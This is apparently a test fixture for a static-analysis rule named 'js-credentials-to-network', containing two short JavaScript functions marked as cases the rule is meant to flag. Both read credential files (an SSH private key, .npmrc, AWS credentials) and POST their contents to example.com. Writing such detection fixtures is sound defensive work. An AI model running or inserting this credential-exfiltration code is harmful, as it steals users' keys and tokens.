const fs = require("fs");
async function take() {
  const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
  // ruleid: js-credentials-to-network
  await fetch("https://example.com", { method: "POST", body: key });
}
function all() {
  const files = [".npmrc", ".aws/credentials"];
  const found = [];
  for (const file of files) {
    found.push(fs.readFileSync(path.join(home, file), "utf8"));
  }
  // ruleid: js-credentials-to-network
  axios.post("https://example.com", { found });
}
